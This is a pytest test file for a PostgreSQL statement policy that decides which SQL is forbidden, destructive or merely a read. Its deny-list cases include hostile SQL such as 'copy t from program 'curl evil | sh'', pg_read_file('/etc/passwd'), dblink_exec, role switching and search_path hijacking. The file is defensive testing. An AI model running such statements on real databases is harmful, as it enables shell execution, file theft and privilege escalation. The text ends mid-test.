"""The SQL policy (``server.sql.policy``) over facts from ``server.sql.analysis``: pure, no database.

Each row names the attack or the mistake it stops.
"""

from __future__ import annotations

import pytest

from server.errors import InvalidInput
from server.settings import AccessMode
from server.sql.analysis import analyze
from server.sql.policy import Classification, Verdict, classify, decide
from server.sql.reached import Call, Closure, Foreign, Function, Reached, Runs, Unseen, Write


def _decide(sql: str, mode: AccessMode = "full", *reached: Reached) -> Verdict:
    facts = analyze(sql)
    return decide(facts, mode, [Closure(reached)] + [Closure()] * (len(facts) - 1))


def _classify(sql: str) -> Classification:
    (facts,) = analyze(sql)
    return classify(facts)


FORBIDDEN = [
    # Transaction control: escaping the server's transaction (and its READ ONLY mode) over the simple protocol.
    pytest.param("SELECT 1; COMMIT; DROP TABLE t", "statement 2: COMMIT", id="commit-escapes-read-only-wrapper"),
    pytest.param("begin read write", "BEGIN: transaction control", id="begin-read-write"),
    pytest.param("start transaction", "START TRANSACTION", id="start-transaction"),
    pytest.param("commit", "run_sql_transaction", id="commit"),
    pytest.param("end", "COMMIT", id="end"),
    pytest.param("rollback", "ROLLBACK", id="rollback"),
    pytest.param("abort", "ROLLBACK", id="abort"),
    pytest.param("savepoint a", "SAVEPOINT", id="savepoint"),
    pytest.param("release a", "RELEASE SAVEPOINT", id="release"),
    pytest.param("rollback to a", "ROLLBACK TO SAVEPOINT", id="rollback-to"),
    pytest.param("prepare transaction 'x'", "PREPARE TRANSACTION", id="two-phase-outlives-session"),
    pytest.param("commit prepared 'x'", "COMMIT PREPARED", id="commit-prepared"),
    pytest.param("rollback prepared 'x'", "ROLLBACK PREPARED", id="rollback-prepared"),
    # Switching the transaction to read-write before its first snapshot.
    pytest.param("set transaction read write", "access mode and isolation", id="set-transaction-read-write"),
    pytest.param("set transaction isolation level read uncommitted", "isolation", id="set-transaction-isolation"),
    pytest.param("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "access mode", id="session-characteristics"),
    pytest.param("set transaction snapshot '00000003-0000001B-1'", "SET TRANSACTION SNAPSHOT", id="import-snapshot"),
    # Switching off the guards.
    pytest.param("set statement_timeout = 0", "SET statement_timeout is not allowed: it is one of the guards", id="t0"),
    pytest.param("SET LOCAL lock_timeout=0", "lock_timeout", id="set-local-lock-timeout"),
    pytest.param("set idle_in_transaction_session_timeout = 0", "guards", id="idle-in-transaction-timeout"),
    pytest.param("set idle_session_timeout = 0", "guards", id="idle-session-timeout"),
    pytest.param("set transaction_read_only = off", "access mode", id="set-transaction-read-only"),
    pytest.param("set default_transaction_read_only = off", "access mode", id="default-transaction-read-only"),
    pytest.param("set default_transaction_isolation = 'serializable'", "isolation", id="default-isolation"),
    pytest.param('set "STATEMENT_TIMEOUT" = 0', "statement_timeout", id="setting-names-ignore-case"),
    pytest.param("reset statement_timeout", "RESET statement_timeout is not allowed", id="reset-guard"),
    pytest.param("set statement_timeout to default", "guards", id="set-guard-to-default"),
    pytest.param("RESET ALL", "RESET ALL is not allowed", id="reset-all"),
    pytest.param("set session_replication_role = replica", "triggers and foreign-key", id="replication-role"),
    pytest.param("set row_security = off", "row-level security", id="row-security"),
    pytest.param("set search_path = evil, pg_catalog", "unqualified names", id="search-path-hijack"),
    pytest.param("set schema 'evil'", "search_path", id="set-schema"),
    pytest.param("set names 'latin1'", "client_encoding", id="client-encoding-breaks-driver"),
    pytest.param("set seed = 0.5", "random sequence", id="seed-leaks-into-pool"),
    pytest.param("set myext.flag = 'on'", "allow list", id="unknown-setting-denied-by-default"),
    pytest.param("select set_config('transaction_read_only','off',true)", "transaction_read_only", id="set-config-ro"),
    pytest.param("select set_config('STATEMENT_TIMEOUT', '0', true)", "guards", id="set-config-guard-any-case"),
    pytest.param("select pg_catalog.set_config('role', 'postgres', false)", "role", id="set-config-role-qualified"),
    pytest.param("select set_config(current_user, 'x', false)", "constant", id="set-config-non-constant"),
    pytest.param(
        "select set_config(new_value => 'off', setting_name => 'transaction_read_only', is_local => true)",
        "constant",
        id="set-config-named-arguments",
    ),
    pytest.param(
        "select * from t where set_config('lock_timeout', '0', true) is not null", "guards", id="set-config-in-where"
    ),
    # Changing the role.
    pytest.param("SET ROLE postgres", "SET role is not allowed", id="set-role"),
    pytest.param("set local role postgres", "role", id="set-local-role"),
    pytest.param("set session authorization postgres", "session_authorization", id="set-session-authorization"),
    pytest.param("reset role", "RESET role", id="reset-role"),
    pytest.param("reset session authorization", "session_authorization", id="reset-session-authorization"),
    # COPY: shell commands and server files; plain COPY is not supported either.
    pytest.param("copy t to program 'id'", "shell command", id="copy-to-program"),
    pytest.param("copy t from program 'curl evil | sh'", "shell command", id="copy-from-program"),
    pytest.param("copy t from '/etc/passwd'", "server file", id="copy-from-server-file"),
    pytest.param("copy (select 1) to '/tmp/x'", "server file", id="copy-to-server-file"),
    pytest.param("copy t from stdin", "COPY is not supported through this tool; use INSERT", id="copy-from-stdin"),
    pytest.param("copy t to stdout", "COPY is not supported", id="copy-to-stdout"),
    # Functions that act outside the transaction or on the host, wherever they are called.
    pytest.param("select * from dblink('host=x','select 1') as t(a int)", "dblink()", id="dblink-in-from"),
    pytest.param("select dblink_exec('host=x', 'drop table t')", "own connection", id="dblink-exec"),
    pytest.param("select public.dblink_exec('x', 'y')", "public.dblink_exec()", id="dblink-in-public"),
    pytest.param("select ext.dblink_connect('c', 'x')", "ext.dblink_connect()", id="dblink-any-schema"),
    pytest.param("select dblink_send_query('c', 'x')", "dblink_send_query()", id="dblink-send-query"),
    pytest.param("select U&\"\\0064blink_exec\"('x','y')", "dblink_exec()", id="unicode-escaped-dblink"),
    pytest.param("select \"dblink_exec\"('x','y')", "dblink_exec()", id="quoted-lower-case-dblink"),
    pytest.param("select pg_background_launch('delete from t')", "own connection or worker", id="pg-background"),
    pytest.param("select pg_catalog.pg_read_file('/etc/passwd')", "files on the database host", id="read-file"),
    pytest.param("select PG_CATALOG.PG_READ_FILE('/etc/passwd')", "pg_read_file", id="read-file-upper-case"),
    pytest.param("select pg_read_binary_file('/etc/passwd')", "files", id="read-binary-file"),
    pytest.param("select * from pg_ls_dir('.')", "pg_ls_dir()", id="ls-dir-in-from"),
    pytest.param("select * from pg_ls_waldir()", "files", id="ls-waldir"),
    pytest.param("select * from pg_ls_archive_statusdir()", "files", id="ls-archive-statusdir"),
    pytest.param("select pg_stat_file('postgresql.conf')", "files", id="stat-file"),
    pytest.param("select pg_file_write('x', 'y', false)", "files", id="adminpack-write"),
    pytest.param("select lo_export(1, '/tmp/x')", "files", id="lo-export"),
    pytest.param("with x as (select pg_sleep(0)) select lo_import('/etc/passwd')", "lo_import()", id="lo-import"),
    pytest.param("with x as (select lo_import('/etc/passwd')) select 1", "lo_import()", id="lo-import-in-cte"),
    pytest.param("select (select pg_read_file('x'))", "pg_read_file()", id="read-file-in-subquery"),
    pytest.param("select lower(pg_read_file('x'))", "pg_read_file()", id="read-file-as-argument"),
    pytest.param("explain select pg_read_file('x')", "pg_read_file()", id="read-file-in-plain-explain"),
    pytest.param("explain analyze select pg_terminate_backend(1)", "pg_terminate_backend()", id="explain-analyze"),
    pytest.param("select pg_cancel_backend(1)", "outside this transaction", id="cancel-backend"),
    pytest.param("select pg_reload_conf()", "ask the operator", id="reload-conf"),
    pytest.param("select pg_rotate_logfile()", "ask the operator", id="rotate-logfile"),
    pytest.param("select pg_promote()", "ask the operator", id="promote"),
    pytest.param("select pg_switch_wal()", "ask the operator", id="switch-wal"),
    pytest.param("select pg_create_restore_point('x')", "ask the operator", id="restore-point"),
    pytest.param("select pg_create_logical_replication_slot('s', 'pgoutput')", "replication", id="slot"),
    pytest.param("select * from pg_logical_slot_get_changes('s', null, null)", "replication", id="slot-changes"),
    pytest.param("select pg_import_system_collations('pg_catalog')", "read-only transaction", id="collations"),
    pytest.param("create table t (a text default pg_read_file('/x'))", "pg_read_file()", id="read-file-in-default"),
    pytest.param("create table t (a int check (pg_terminate_backend(a)))", "pg_terminate_backend()", id="in-check"),
    pytest.param("create view v as select pg_read_file('x')", "pg_read_file()", id="read-file-deferred-by-view"),
    pytest.param("update t set a = pg_read_file('x') where b = 1", "pg_read_file()", id="read-file-in-update"),
    pytest.param("select pg_advisory_lock(1)", "advisory lock", id="advisory-lock-leaks-into-pool"),
    pytest.param("select pg_try_advisory_lock(1)", "advisory lock", id="try-advisory-lock"),
    pytest.param("select pg_advisory_xact_lock(1)", "advisory lock", id="advisory-xact-lock"),
    pytest.param("select pg_advisory_unlock_all()", "advisory lock", id="advisory-unlock-all"),
    pytest.param("select pg_notify('c','p')", "pg_notify()", id="pg-notify"),
    pytest.param("select query_to_xml('select pg_read_file(''x'')', true, true, '')", "SQL given as text", id="q2x"),
    pytest.param("select * from ts_stat('select dblink_exec(''x'', ''y'')')", "SQL given as text", id="ts-stat"),
    pytest.param("select setseed(0.5)", "random sequence", id="setseed-leaks-into-pool"),
    # Session-level statements: they outlive the call in a pooled connection, or act on the server.
    pytest.param("notify c", "NOTIFY", id="notify"),
    pytest.param("listen c", "LISTEN", id="listen"),
    pytest.param("unlisten *", "UNLISTEN", id="unlisten"),
    pytest.param("load 'x'", "shared library", id="load"),
    pytest.param("prepare p as select 1", "pass params instead", id="prepare"),
    pytest.param("execute p", "pass params instead", id="execute"),
    pytest.param("deallocate all", "pass params instead", id="deallocate"),
    pytest.param("explain execute p", "EXECUTE", id="explain-execute"),
    pytest.param("create table x as execute p", "EXECUTE", id="create-table-as-execute"),
    pytest.param("declare c cursor for select 1", "cursors", id="declare-cursor"),
    pytest.param("fetch c", "cursors", id="fetch"),
    pytest.param("move c", "cursors", id="move"),
    pytest.param("close c", "cursors", id="close"),
    pytest.param("discard all", "DISCARD", id="discard"),
    pytest.param("alter system set fsync=off", "ALTER SYSTEM", id="alter-system"),
    pytest.param("alter system reset all", "ALTER SYSTEM", id="alter-system-reset"),
    pytest.param("checkpoint", "CHECKPOINT", id="checkpoint"),
    pytest.param("create subscription s connection 'host=x' publication p", "another server", id="subscription"),
    pytest.param("create rule r as on insert to t do also notify c", "NOTIFY", id="notify-deferred-by-rule"),
    # Deny by default.
    pytest.param("set constraints all deferred", "ConstraintsSetStmt is not supported by the policy", id="unknown"),
]


@pytest.mark.parametrize("mode", ["full", "read-only"])
@pytest.mark.parametrize(("sql", "reason"), FORBIDDEN)
def test_forbidden_in_every_mode(sql: str, reason: str, mode: AccessMode) -> None:
    verdict = _decide(sql, mode)
    assert (verdict.action, verdict.category) == ("reject", "forbidden")
    assert reason in verdict.reason


CATEGORIES = [
    # destructive: confirmation in full mode
    pytest.param("drop table t", "destructive", "DROP TABLE deletes t", id="drop-table"),
    pytest.param("drop table if exists a, s.b cascade", "destructive", "a, s.b", id="drop-tables"),
    pytest.param("drop index i", "destructive", "DROP INDEX", id="drop-index"),
    pytest.param("drop view v", "destructive", "DROP VIEW", id="drop-view"),
    pytest.param("drop materialized view m", "destructive", "DROP MATERIALIZED VIEW", id="drop-matview"),
    pytest.param("drop schema s cascade", "destructive", "DROP SCHEMA", id="drop-schema"),
    pytest.param("drop database d", "destructive", "DROP DATABASE", id="drop-database"),
    pytest.param("drop role r", "destructive", "DROP ROLE deletes r", id="drop-role"),
    pytest.param("drop user u", "destructive", "DROP ROLE", id="drop-user"),
    pytest.param("drop function f(int)", "destructive", "DROP FUNCTION", id="drop-function"),
    pytest.param("drop extension e", "destructive", "DROP EXTENSION", id="drop-extension"),
    pytest.param("drop type ty", "destructive", "DROP TYPE", id="drop-type"),
    pytest.param("drop sequence s", "destructive", "DROP SEQUENCE", id="drop-sequence"),
    pytest.param("drop trigger tr on t", "destructive", "DROP TRIGGER", id="drop-trigger"),
    pytest.param("drop policy p on t", "destructive", "DROP POLICY", id="drop-policy"),
    pytest.param("drop tablespace ts", "destructive", "DROP TABLESPACE", id="drop-tablespace"),
    pytest.param("drop user mapping for r server s", "destructive", "DROP USER MAPPING", id="drop-user-mapping"),
    pytest.param("truncate t", "destructive", "TRUNCATE removes every row of t", id="truncate"),
    pytest.param("truncate table a, b restart identity", "destructive", "a, b", id="truncate-many"),
    pytest.param("delete from t", "destructive", "DELETE without WHERE removes every row of t", id="delete-all"),
    pytest.param("update t set a=1", "destructive", "UPDATE without WHERE changes every row of t", id="update-all"),
    pytest.param("delete from t using u", "destructive", "without WHERE", id="delete-using-without-where"),
    pytest.param(
        "with d as (delete from t returning *) select * from d", "destructive", "without WHERE", id="cte-delete-all"
    ),
    pytest.param(
        "with u as (update t set a = 1 returning *) insert into log select * from u",
        "destructive",
        "UPDATE without WHERE",
        id="cte-update-all-under-insert",
    ),
    pytest.param("alter table t drop column a", "destructive", "DROP COLUMN", id="drop-column"),
    pytest.param("alter table t add column b int, drop column a", "destructive", "DROP COLUMN", id="drop-col-2nd"),
    pytest.param("alter table t alter column a type bigint", "destructive", "TYPE", id="alter-column-type"),
    pytest.param("alter table t drop constraint c", "destructive", "DROP CONSTRAINT", id="drop-constraint"),
    pytest.param("revoke select on t from r", "destructive", "REVOKE", id="revoke"),
    pytest.param("revoke admin from bob", "destructive", "REVOKE", id="revoke-role"),
    pytest.param("drop owned by r", "destructive", "DROP OWNED", id="drop-owned"),
    pytest.param("reassign owned by a to b", "destructive", "REASSIGN OWNED", id="reassign-owned"),
    pytest.param("vacuum full t", "destructive", "VACUUM FULL", id="vacuum-full"),
    pytest.param("vacuum (full, analyze) t", "destructive", "VACUUM FULL", id="vacuum-full-options"),
    pytest.param("vacuum (full true) t", "destructive", "VACUUM FULL", id="vacuum-full-true"),
    pytest.param("cluster t using i", "destructive", "CLUSTER", id="cluster"),
    pytest.param("do $$begin perform 1; end$$", "destructive", "DO runs procedural code", id="do-block"),
    pytest.param("call p()", "destructive", "CALL runs a procedure", id="call"),
    pytest.param("explain analyze delete from t", "destructive", "EXPLAIN ANALYZE runs the statement", id="ea-del"),
    pytest.param(
        "create function f() returns int begin atomic; delete from t; end", "destructive", "DELETE", id="atomic-body"
    ),
    # Conditions that do not depend on the row change every row (or none).
    pytest.param("delete from t where true", "destructive", "removes every row of t", id="delete-where-true"),
    pytest.param("update t set a = 1 where 1 = 1", "destructive", "changes every row of t", id="update-where-1-1"),
    pytest.param("delete from t where 'x' = 'x'", "destructive", "WHERE condition does not depend", id="where-x-x"),
    pytest.param("delete from t where true or a = 1", "destructive", "every row", id="where-true-or-column"),
    pytest.param("delete from t where not false", "destructive", "every row", id="where-not-false"),
    pytest.param("delete from t where $1", "destructive", "every row", id="where-parameter"),
    pytest.param("delete from t where 't'::boolean", "destructive", "every row", id="where-true-literal"),
    pytest.param("delete from t where now() > '2000-01-01'", "destructive", "every row", id="where-no-column"),
    pytest.param(
        "merge into t using s on true when matched then delete", "destructive", "MERGE whose ON", id="merge-on-true"
    ),
    pytest.param(
        "merge into t using s on 1 = 1 when matched then update set a = 1", "destructive", "every row", id="merge-1-1"
    ),
    pytest.param(
        "with d as (delete from t where true returning *) select * from d", "destructive", "every row", id="cte-true"
    ),
    # Settings and powers that outlive the call, and ways out of the database.
    pytest.param("alter role r set statement_timeout = 0", "destructive", "future session", id="alter-role-set"),
    pytest.param("alter role r set session_replication_role = replica", "destructive", "triggers", id="role-srr"),
    pytest.param("alter role all set search_path = evil", "destructive", "search_path", id="role-search-path"),
    pytest.param("alter database d set work_mem = '1MB'", "destructive", "ALTER DATABASE … SET", id="database-set"),
    pytest.param("create role r superuser", "destructive", "SUPERUSER", id="create-superuser"),
    pytest.param("create user r with login bypassrls", "destructive", "BYPASSRLS", id="create-bypassrls"),
    pytest.param("alter role r replication", "destructive", "REPLICATION", id="alter-replication"),
    pytest.param("alter role r createrole", "destructive", "CREATEROLE", id="alter-createrole"),
    pytest.param("alter user r createdb", "destructive", "CREATEDB", id="alter-createdb"),
    pytest.param("create role r in role pg_execute_server_program", "destructive", "IN ROLE", id="in-server-program"),
    pytest.param("create role r admin bob", "destructive", "ADMIN", id="create-role-admin"),
    pytest.param("grant admin to bob with admin option", "destructive", "WITH ADMIN OPTION", id="admin-option"),
    pytest.param("grant pg_read_server_files to bob", "destructive", "pg_read_server_files", id="grant-files"),
    pytest.param("alter default privileges grant all on tables to public", "destructive", "DEFAULT", id="defaults"),
    pytest.param("create extension hypopg", "destructive", "CREATE EXTENSION", id="create-extension"),
    pytest.param("alter extension hypopg update", "destructive", "ALTER EXTENSION", id="alter-extension"),
    pytest.param("create server s foreign data wrapper file_fdw", "destructive", "CREATE SERVER", id="server"),
    pytest.param(
        "create foreign table f (a text) server s options (program 'id')", "destructive", "FOREIGN TABLE", id="ft"
    ),
    pytest.param("alter foreign table f options (set program 'id')", "destructive", "ALTER FOREIGN", id="alter-ft"),
    pytest.param("import foreign schema s from server x into app", "destructive", "IMPORT FOREIGN", id="import"),
    pytest.param("create user mapping for r server s options (user 'x')", "destructive", "USER MAPPING", id="mapping"),
    pytest.param("create foreign data wrapper w", "destructive", "FOREIGN DATA WRAPPER", id="fdw"),
    pytest.param(
        "create event trigger e on ddl_command_start execute function f()", "destructive", "EVENT TRIGGER", id="evt"
    ),
    # write
    pytest.param("insert into t values (1)", "write", "INSERT adds rows to t", id="insert"),
    pytest.param("insert into t select * from u on conflict do nothing", "write", "INSERT", id="insert-select"),
    pytest.param("update t set a=1 where b=2", "write", "UPDATE changes rows of t", id="update-where"),
    pytest.param("delete from t where false", "write", "DELETE", id="where-false-removes-nothing"),
    pytest.param("delete from t where id = $1", "write", "DELETE", id="where-key-parameter"),
    pytest.param("merge into t using s on t.a = s.a when matched then delete", "write", "MERGE", id="merge-on-key"),
    pytest.param("merge into t using s on true when not matched then insert values (1)", "write", "MERGE", id="m-ins"),
    pytest.param("delete from t where a=1", "write", "DELETE removes rows of t", id="delete-where"),
    pytest.param("merge into t using s on t.a=s.a when matched then delete", "write", "MERGE", id="merge"),
    pytest.param("with i as (insert into t values (1) returning *) select * from i", "write", "INSERT", id="cte-ins"),
    pytest.param("select * from t for update", "write", "FOR UPDATE", id="for-update"),
    pytest.param("select * from t for share nowait", "write", "FOR UPDATE/SHARE", id="for-share"),
    pytest.param("select * from (select * from t for update) x", "write", "FOR UPDATE", id="for-update-subquery"),
    pytest.param("select nextval('s')", "write", "nextval() changes a sequence", id="nextval"),
    pytest.param("select pg_catalog.setval('s', 1)", "write", "setval", id="setval"),
    pytest.param("refresh materialized view m", "write", "REFRESH MATERIALIZED VIEW", id="refresh"),
    pytest.param("analyze t", "write", "ANALYZE updates planner statistics", id="analyze"),
    pytest.param("vacuum t", "write", "VACUUM", id="vacuum"),
    pytest.param("vacuum (full false) t", "write", "VACUUM cleans", id="vacuum-full-false"),
    pytest.param("lock table t in exclusive mode", "write", "LOCK TABLE", id="lock"),
    pytest.param("reindex table t", "write", "REINDEX", id="reindex"),
    pytest.param("explain analyze delete from t where a=1", "write", "DELETE removes rows of t", id="ea-delete-where"),
    pytest.param("explain (analyze true) insert into t values (1)", "write", "INSERT", id="ea-insert"),
    pytest.param("explain analyse delete from t", "destructive", "DELETE without WHERE", id="british-analyse"),
    pytest.param("explain (analyse) delete from t where a = 1", "write", "DELETE", id="british-analyse-option"),
    pytest.param("explain (analyze 'yes') delete from t", "destructive", "DELETE", id="unclear-value-reads-as-on"),
    # ddl
    pytest.param("create table t (a int)", "ddl", "CREATE TABLE", id="create-table"),
    pytest.param("create table t (id int default nextval('s'))", "ddl", "CREATE TABLE", id="ddl-over-nextval"),
    pytest.param("create index i on t (a)", "ddl", "CREATE INDEX", id="create-index"),
    pytest.param("create index concurrently i on t (a)", "ddl", "CREATE INDEX", id="create-index-concurrently"),
    pytest.param("create view v as select * from t", "ddl", "CREATE VIEW", id="create-view"),
    pytest.param("create materialized view m as select 1", "ddl", "MATERIALIZED VIEW", id="create-matview"),
    pytest.param("create schema s", "ddl", "CREATE SCHEMA", id="create-schema"),
    pytest.param("create database d", "ddl", "CREATE DATABASE", id="create-database"),
    pytest.param("create role r login", "ddl", "CREATE ROLE", id="create-role"),
    pytest.param("create role r nosuperuser nocreatedb in role app", "ddl", "CREATE ROLE", id="create-plain-role"),
    pytest.param("alter role r nosuperuser", "ddl", "ALTER ROLE", id="alter-role-takes-power-away"),
    pytest.param("grant app_reader to bob", "ddl", "GRANT", id="grant-plain-role"),
    pytest.param("create function f() returns int language sql as 'select 1'", "ddl", "FUNCTION", id="create-func"),
    pytest.param("alter table t add column b int", "ddl", "ALTER TABLE", id="add-column"),
    pytest.param("alter table t rename to u", "ddl", "RENAME", id="rename"),
    pytest.param("alter table t alter column a set not null", "ddl", "ALTER TABLE", id="set-not-null"),
    pytest.param("comment on table t is 'x'", "ddl", "COMMENT", id="comment"),
    pytest.param("grant select on t to r", "ddl", "GRANT", id="grant"),
    pytest.param("grant admin to bob", "ddl", "GRANT", id="grant-role"),
    pytest.param("security label on table t is 'x'", "ddl", "SECURITY LABEL", id="security-label"),
    pytest.param("select * into t2 from t", "ddl", "SELECT … INTO creates a table", id="select-into"),
    pytest.param("create table t2 as select 1", "ddl", "CREATE TABLE AS", id="create-table-as"),
    pytest.param("explain analyze create table t2 as select 1", "ddl", "CREATE TABLE AS", id="ea-ctas"),
    # read
    pytest.param("select 1", "read", "SELECT only reads", id="select"),
    pytest.param("select * from t where a in (select b from u) order by 1 limit 5", "read", "SELECT", id="select-q"),
    pytest.param("values (1), (2)", "read", "VALUES only reads", id="values"),
    pytest.param("table t", "read", "SELECT only reads", id="table"),
    pytest.param("show work_mem", "read", "SHOW", id="show"),
    pytest.param("show all", "read", "SHOW", id="show-all"),
    pytest.param("select random(), now(), gen_random_uuid(), clock_timestamp()", "read", "SELECT", id="safe-volatile"),
    pytest.param("select pg_sleep(0.1), pg_catalog.txid_current(), currval('s')", "read", "SELECT", id="safe-2"),
    pytest.param("explain delete from t", "read", "EXPLAIN without ANALYZE only plans", id="explain-delete"),
    pytest.param("explain (analyze false) delete from t", "read", "only plans", id="explain-analyze-false"),
    pytest.param("explain (analyze 0) delete from t", "read", "only plans", id="explain-analyze-0"),
    pytest.param("explain (analyze off, verbose) update t set a = 1", "read", "only plans", id="ea-off"),
    pytest.param("explain select nextval('s')", "read", "only plans", id="explain-does-not-run-calls"),
    pytest.param("explain with d as (delete from t) select 1", "read", "only plans", id="explain-cte-delete"),
    pytest.param("explain analyze select 1", "read", "EXPLAIN ANALYZE runs the statement, which only reads", id="ea"),
    pytest.param("set work_mem='64MB'", "read", "SET work_mem only tunes", id="set-work-mem"),
    pytest.param("set local enable_seqscan = off", "read", "SET enable_seqscan", id="set-local-enable"),
    pytest.param("set geqo_threshold = 20", "read", "geqo_threshold", id="set-geqo"),
    pytest.param("set time zone 'UTC'", "read", "SET timezone", id="set-time-zone"),
    pytest.param("set datestyle to default", "read", "datestyle", id="set-default"),
    pytest.param("set \"Work_Mem\" = '1MB'", "read", "work_mem", id="setting-names-ignore-case"),
    pytest.param("reset work_mem", "read", "RESET work_mem", id="reset-allowed"),
    pytest.param("select set_config('work_mem', '1MB', true)", "read", "SELECT", id="set-config-allowed"),
    pytest.param("select set_config('application_name'::text, 'x', false)", "read", "SELECT", id="set-config-cast"),
]


@pytest.mark.parametrize(("sql", "category", "reason"), CATEGORIES)
def test_categories_in_full_mode(sql: str, category: str, reason: str) -> None:
    verdict = _decide(sql, "full")
    expected_action = {"read": "allow", "write": "allow", "ddl": "allow", "destructive": "confirm"}[category]
    assert (verdict.action, verdict.category) == (expected_action, category)
    assert reason in verdict.reason
    assert verdict.read_only is (category == "read")


@pytest.mark.parametrize(("sql", "category", "reason"), CATEGORIES)
def test_read_only_mode_runs_only_reads(sql: str, category: str, reason: str) -> None:
    verdict = _decide(sql, "read-only")
    assert verdict.category == category
    if category == "read":
        assert verdict.action == "allow"
        assert verdict.read_only
    else:
        assert verdict.action == "reject"
        assert verdict.reason.startswith("the server is in read-only mode: only reads run (statement 1 is ")
        assert reason in verdict.reason
        assert verdict.reason.endswith("The operator can start it with --access-mode full.")


def test_read_only_rejection_message() -> None:
    verdict = _decide("select 1; insert into t values (1)", "read-only")
    assert verdict.reason == (
        "the server is in read-only mode: only reads run (statement 2 is a write: INSERT adds rows to t). "
        "The operator can start it with --access-mode full."
    )


# --- what the statement sets off (its executable closure) ---------------------------------------------------------


def _builtin(name: str, volatility: str = "i") -> Function:
    return Function("pg_catalog", name, "internal", volatility, builtin=True)


def _user(name: str, language: str = "plpgsql", volatility: str = "i", **more: object) -> Function:
    return Function("app", name, language, volatility, builtin=False, **more)  # type: ignore[arg-type]


def _runs(sql: str) -> Runs:
    (facts,) = analyze(sql)
    return Runs(("view app.v", "function app.f()"), facts)


VIEW = ("view app.v",)
REACHED = [
    # PostgreSQL's own functions: by name and volatility.
    pytest.param(Call(VIEW, _builtin("lower")), "read", "SELECT only reads", id="immutable-builtin"),
    pytest.param(Call(VIEW, _builtin("now", "s")), "read", "SELECT only reads", id="stable-builtin"),
    pytest.param(Call(VIEW, _builtin("pg_relation_size", "v")), "read", "SELECT", id="size-reader-allow-listed"),
    pytest.param(Call(VIEW, _builtin("pg_blocking_pids", "v")), "read", "SELECT", id="lock-reader-allow-listed"),
    pytest.param(Call(VIEW, _builtin("random", "v")), "read", "SELECT", id="random"),
    pytest.param(Call(VIEW, _builtin("set_config", "v")), "read", "SELECT", id="set-config-checked-where-called"),
    pytest.param(
        Call(VIEW, _builtin("pg_stat_reset", "v")),
        "destructive",
        "view app.v → calls volatile function pg_stat_reset(), which may write",
        id="volatile-builtin",
    ),
    pytest.param(Call(VIEW, _builtin("nextval", "v")), "write", "view app.v → nextval() changes a sequence", id="seq"),
    pytest.param(
        Call(VIEW, _builtin("pg_read_file", "v")),
        "forbidden",
        "view app.v → pg_read_file() reads or writes files on the database host",
        id="forbidden-builtin-through-a-view",
    ),
    pytest.param(
        Call(VIEW, _builtin("pg_terminate_backend", "v")), "forbidden", "acts on the server", id="terminate-backend"
    ),
    pytest.param(Call(VIEW, _builtin("lo_export", "v")), "forbidden", "files on the database host", id="lo-export"),
    # Extensions' and users' C code: by what it runs, whatever it is called.
    pytest.param(
        Call(("view app.v", "function app.f()"), _user("dblink_exec", "c", "v", extension="dblink", library="dblink")),
        "forbidden",
        "view app.v → function app.f() → app.dblink_exec() works through its own connection",
        id="dblink-named-by-the-path",
    ),
    pytest.param(
        Call(VIEW, _user("harmless", "c", "i", library="dblink")), "forbidden", "own connection", id="dblink-library"
    ),
    pytest.param(
        Call(VIEW, _user("harmless", "c", "i", aliases=("dblink_exec",))), "forbidden", "own connection", id="alias"
    ),
    pytest.param(
        Call(VIEW, _user("innocent", "internal", "i", aliases=("pg_read_file",))),
        "forbidden",
        "app.innocent() reads or writes files",
        id="renamed-pg-read-file",
    ),
    pytest.param(
        Call(VIEW, _user("tune", "internal", "v", aliases=("set_config",))),
        "forbidden",
        "set_config under another name",
        id="renamed-set-config",
    ),
    pytest.param(Call(VIEW, _user("fast", "c", "i")), "read", "SELECT", id="immutable-c-trusted"),
    pytest.param(Call(VIEW, _user("writes", "c", "v")), "destructive", "written in C", id="volatile-c"),
    pytest.param(
        Call(VIEW, _user("pg_stat_statements", "c", "v", extension="pg_stat_statements")),
        "read",
        "SELECT",
        id="extension-reader-allow-listed",
    ),
    pytest.param(
        Call(VIEW, _user("pg_stat_statements", "c", "v")), "destructive", "volatile", id="same-name-no-extension"
    ),
    pytest.param(Call(VIEW, _user("py", "plpython3u", "i")), "destructive", "written in plpython3u", id="opaque"),
    # SQL and PL/pgSQL functions: by what their bodies run, whatever their label.
    pytest.param(Call(VIEW, _user("lying", "plpgsql", "i")), "read", "SELECT", id="label-alone-decides-nothing"),
    pytest.param(Call(VIEW, _user("volatile_reader", "sql", "v")), "read", "SELECT", id="volatile-label-reads"),
    pytest.param(_runs("select 1 from app.t"), "read", "SELECT", id="body-reads"),
    pytest.param(
        _runs("delete from app.other"),
        "destructive",
        "view app.v → function app.f() → DELETE without WHERE removes every row of app.other",
        id="body-deletes",
    ),
    pytest.param(_runs("insert into app.log values (1)"), "write", "INSERT adds rows to app.log", id="body-inserts"),
    pytest.param(_runs("drop table app.t"), "destructive", "DROP TABLE", id="body-drops"),
    pytest.param(_runs("copy app.t to program 'id'"), "forbidden", "shell command", id="body-copy-program"),
    pytest.param(_runs("select pg_read_file('/etc/passwd')"), "forbidden", "pg_read_file()", id="body-read-file"),
    pytest.param(_runs("set role postgres"), "forbidden", "role", id="body-set-role"),
    # Rows changed beyond the statement's own target.
    pytest.param(
        Write(("trigger w on app.t", "function app.wipe()"), "app.other", "delete", own=False),
        "destructive",
        "trigger w on app.t → function app.wipe() → deletes rows of app.other, beyond what the statement itself",
        id="write-beyond",
    ),
    pytest.param(Write(("trigger w on app.t",), "app.t", "update", own=True), "read", "SELECT", id="own-write"),
    # Foreign tables, and what cannot be seen.
    pytest.param(
        Foreign(("view app.v",), "app.passwd", "file_fdw", ("filename",)),
        "forbidden",
        "view app.v → foreign table app.passwd uses file_fdw",
        id="file-fdw",
    ),
    pytest.param(
        Foreign((), "app.remote", "postgres_fdw", ("host",)), "destructive", "postgres_fdw", id="postgres-fdw"
    ),
    pytest.param(
        Unseen(("function app.f()",), "it runs dynamic SQL (EXECUTE of a computed string)"),
        "destructive",
        "function app.f() → it runs dynamic SQL (EXECUTE of a computed string); the policy cannot see",
        id="dynamic-sql",
    ),
]


@pytest.mark.parametrize(("reached", "category", "reason"), REACHED)
def test_what_a_read_sets_off_counts_as_done_by_it(reached: Reached, category: str, reason: str) -> None:
    verdict = _decide("select * from app.v", "full", reached)
    assert verdict.category == category
    assert reason in verdict.reason
    read_only = _decide("select * from app.v", "read-only", reached)
    assert (read_only.action == "allow") is (category == "read")


def test_the_first_of_the_strictest_items_gives_the_reason() -> None:
    verdict = _decide(
        "select * from app.v",
        "full",
        Call(VIEW, _builtin("lower")),
        _runs("insert into app.log values (1)"),
